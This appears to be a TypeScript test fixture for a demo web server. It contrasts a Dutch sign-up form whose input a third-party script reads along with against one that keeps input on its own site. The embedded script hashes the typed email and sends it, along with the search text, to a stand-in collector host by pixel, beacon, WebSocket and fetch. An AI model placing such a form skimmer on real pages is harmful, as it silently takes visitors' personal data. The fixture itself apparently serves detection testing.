import { type HostTable, noContent, script } from '../../../cli/demo-web/answer.ts';
import { page } from './page.ts';

const form = `<form action="/klaar" method="post"><p><label>E-mail <input name="email" type="email"></label>
<p><label>Zoek <input name="zoek" id="zoek" type="search"></label><p><button>Verstuur</button></form>`;

/** Forms: one that somebody reads along with, one that keeps what is typed to itself. */
export const hosts: HostTable = {
  'meelezen.gedrag-demo.nl': (request) =>
    request.method === 'POST'
      ? page('Dank je wel', '<p>Verstuurd.</p>')
      : page('Schrijf je in', `${form}<script src="https://verzamel.derde-demo.com/m.js"></script>`),
  'formulier.gedrag-demo.nl': (request) =>
    request.method === 'POST'
      ? page('Dank je wel', '<p>Verstuurd.</p>')
      : page(
          'Schrijf je in',
          `${form}<script>document.getElementById('zoek').addEventListener('input', (e) => fetch('/zoek?q=' + encodeURIComponent(e.target.value)));
document.addEventListener('keydown', () => 0);</script>`,
        ),
  'verzamel.derde-demo.com': (request) =>
    request.path.startsWith('/m.js') ? script(reader) : noContent(request),
};

/** Sends the address as a hash as soon as it is complete, and what is searched for as base64 in a body. */
const reader = `
const hex = async (text) => [...new Uint8Array(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(text)))].map((b) => b.toString(16).padStart(2, '0')).join('');
document.querySelector('[name=email]').addEventListener('change', async (e) => {
  new Image().src = 'https://verzamel.derde-demo.com/p.gif?em=' + await hex(e.target.value.trim().toLowerCase());
});
document.querySelector('[name=zoek]').addEventListener('change', (e) => {
  navigator.sendBeacon('https://verzamel.derde-demo.com/c', new Blob([JSON.stringify({ d: btoa('q=' + e.target.value) })]));
  const socket = new WebSocket('wss://verzamel.derde-demo.com/s');
  socket.onopen = () => socket.send(e.target.value);
  fetch('https://verzamel.derde-demo.com/f', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ zoek: e.target.value }) });
});`;
